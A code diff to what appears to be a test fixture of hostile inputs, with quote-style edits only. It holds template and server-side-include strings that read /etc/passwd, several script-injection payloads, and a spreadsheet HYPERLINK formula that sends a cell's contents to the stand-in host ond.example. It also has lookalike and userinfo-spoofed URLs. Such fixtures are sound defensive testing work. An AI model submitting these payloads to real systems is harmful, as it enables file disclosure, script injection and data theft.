@@ -30,7 +30,7 @@ HOSTILE = {
 # And words that pages, addresses and files might take for more, or find no room for; some are too long for most fields.
 MORE = {
     "a template": "{{ cycler.__init__.__globals__ }}{% include '../../etc/passwd' %}{{ ord }}",
-    "a mark of a part": "[bare:eget] [/bare] @@rot@@ @@ord_meny@@ <!--#include virtual=\"/etc/passwd\" -->",
+    "a mark of a part": '[bare:eget] [/bare] @@rot@@ @@ord_meny@@ <!--#include virtual="/etc/passwd" -->',
     "a script as an address": "javascript:window.truffet=1//",
     "the end of a script": "</script></title></textarea></style><script>window.truffet=1</script>",
     "the end of data": "]]><!--<script>--!><svg onload=window.truffet=1>",
@@ -51,7 +51,7 @@ MORE = {
     "letters on letters": "a" + "\u0301\u0302\u0303" * 30,
     "soft hyphens and joiners": "\u00ad\u200c\u200d" * 9 + "ord",
     "a field of a sheet": "\t=1+1",
-    "a formula behind a blank": " =HYPERLINK(\"https://ond.example/?\"&A1)",
+    "a formula behind a blank": ' =HYPERLINK("https://ond.example/?"&A1)',
     "a link of a text": "[trykk her](javascript:window.truffet=1) ![x](https://ond.example/x.png) <https://ond.example>",
     "somebody elses site": "https://bank.example.org@ond.example/",
     "letters that look alike": "https://ex\u0430mple.org/",
